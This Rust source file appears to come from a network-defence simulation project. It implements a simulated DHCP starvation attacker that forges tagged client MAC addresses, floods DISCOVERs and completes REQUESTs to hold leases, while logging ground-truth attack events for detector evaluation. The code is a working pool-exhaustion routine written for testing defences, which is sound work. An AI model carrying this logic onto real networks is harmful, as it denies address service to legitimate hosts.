//! DHCP starvation (`yersinia`-style pool exhaustion).

use std::time::Duration;

use arpshield_netsim::{eth_frame, Device, DeviceCtx, PortId};
use arpshield_packet::{
    DhcpMessage, DhcpMessageType, EtherType, EthernetView, IpProtocol, Ipv4Addr, Ipv4Packet,
    MacAddr, UdpDatagram, WireEmit, DHCP_CLIENT_PORT, DHCP_SERVER_PORT,
};

use crate::ground_truth::{AttackEvent, AttackKind, GroundTruth};

/// Starver parameters.
#[derive(Debug, Clone, Copy)]
pub struct DhcpStarverConfig {
    /// Delay before the attack starts.
    pub start_delay: Duration,
    /// Forged DISCOVERs per second.
    pub rate_per_sec: u32,
    /// Total discovers to send (`None` = unbounded).
    pub total: Option<u64>,
}

/// Exhausts a DHCP pool with forged client hardware addresses.
#[derive(Debug)]
pub struct DhcpStarver {
    config: DhcpStarverConfig,
    truth: GroundTruth,
    next_forged: u32,
    /// Forged DISCOVERs sent, checked against `config.total`.
    discovers_sent: u64,
}

const TICK: u64 = 1;

impl DhcpStarver {
    /// Creates a starver reporting into `truth`.
    pub fn new(config: DhcpStarverConfig, truth: GroundTruth) -> Self {
        DhcpStarver { config, truth, next_forged: 0, discovers_sent: 0 }
    }

    /// The forged `chaddr` space is disjoint from `MacAddr::from_index`
    /// (which generates `02:00:…`), so experiments can tell forged
    /// clients from real ones.
    fn forged_mac(&mut self) -> MacAddr {
        let n = self.next_forged;
        self.next_forged += 1;
        let b = n.to_be_bytes();
        MacAddr::new([0x06, 0x66, b[0], b[1], b[2], b[3]])
    }

    fn send_dhcp(&mut self, ctx: &mut DeviceCtx<'_>, src_mac: MacAddr, msg: &impl WireEmit) {
        let dgram = UdpDatagram::new(
            DHCP_CLIENT_PORT,
            DHCP_SERVER_PORT,
            Ipv4Addr::UNSPECIFIED,
            Ipv4Addr::BROADCAST,
            msg,
        );
        let pkt =
            Ipv4Packet::new(Ipv4Addr::UNSPECIFIED, Ipv4Addr::BROADCAST, IpProtocol::Udp, &dgram);
        ctx.send(PortId(0), eth_frame(MacAddr::BROADCAST, src_mac, EtherType::Ipv4, &pkt));
    }
}

impl Device for DhcpStarver {
    fn name(&self) -> &str {
        "dhcp-starver"
    }

    fn port_count(&self) -> usize {
        1
    }

    fn on_start(&mut self, ctx: &mut DeviceCtx<'_>) {
        ctx.schedule_in(self.config.start_delay, TICK);
    }

    fn on_timer(&mut self, ctx: &mut DeviceCtx<'_>, token: u64) {
        if token != TICK {
            return;
        }
        if let Some(total) = self.config.total {
            if self.discovers_sent >= total {
                return;
            }
        }
        let chaddr = self.forged_mac();
        let xid = ctx.rng().next_u32();
        let discover = DhcpMessage::discover(xid, chaddr);
        // The forged client's MAC is also used at L2 so switch-level
        // defences (port security) see the multiplicity.
        self.send_dhcp(ctx, chaddr, &discover);
        self.discovers_sent += 1;
        self.truth.record(AttackEvent {
            at: ctx.now(),
            kind: AttackKind::DhcpStarvation,
            forged_ip: None,
            claimed_mac: Some(chaddr),
        });
        let gap = Duration::from_nanos(1_000_000_000 / u64::from(self.config.rate_per_sec.max(1)));
        ctx.schedule_in(gap, TICK);
    }

    fn on_frame(&mut self, ctx: &mut DeviceCtx<'_>, _port: PortId, frame: &[u8]) {
        // Complete the handshake: capture OFFERs addressed to any of our
        // forged clients and pin them with a REQUEST, so the attack holds
        // leases rather than just transient offers.
        let Ok(eth) = EthernetView::parse_strict(frame) else {
            return;
        };
        if eth.ethertype() != EtherType::Ipv4 {
            return;
        }
        let Ok(pkt) = Ipv4Packet::parse(eth.payload()) else {
            return;
        };
        if pkt.protocol != IpProtocol::Udp {
            return;
        }
        let Ok(dgram) = UdpDatagram::parse(pkt.payload, pkt.src, pkt.dst) else {
            return;
        };
        if dgram.dst_port != DHCP_CLIENT_PORT {
            return;
        }
        let Ok(msg) = DhcpMessage::parse(dgram.payload) else {
            return;
        };
        let forged = msg.chaddr.octets()[0] == 0x06 && msg.chaddr.octets()[1] == 0x66;
        if !forged || msg.message_type() != Some(DhcpMessageType::Offer) {
            return;
        }
        if let Some(server) = msg.server_id() {
            let request = DhcpMessage::request(msg.xid, msg.chaddr, msg.yiaddr, server);
            self.send_dhcp(ctx, msg.chaddr, &request);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn forged_macs_are_distinct_and_tagged() {
        let mut s = DhcpStarver::new(
            DhcpStarverConfig { start_delay: Duration::ZERO, rate_per_sec: 100, total: None },
            GroundTruth::new(),
        );
        let a = s.forged_mac();
        let b = s.forged_mac();
        assert_ne!(a, b);
        assert_eq!(a.octets()[0], 0x06);
        assert_eq!(a.octets()[1], 0x66);
        assert!(a.is_unicast());
    }

    // Pool-exhaustion end-to-end behaviour is exercised in the crate
    // integration tests against a real DHCP server host.
}
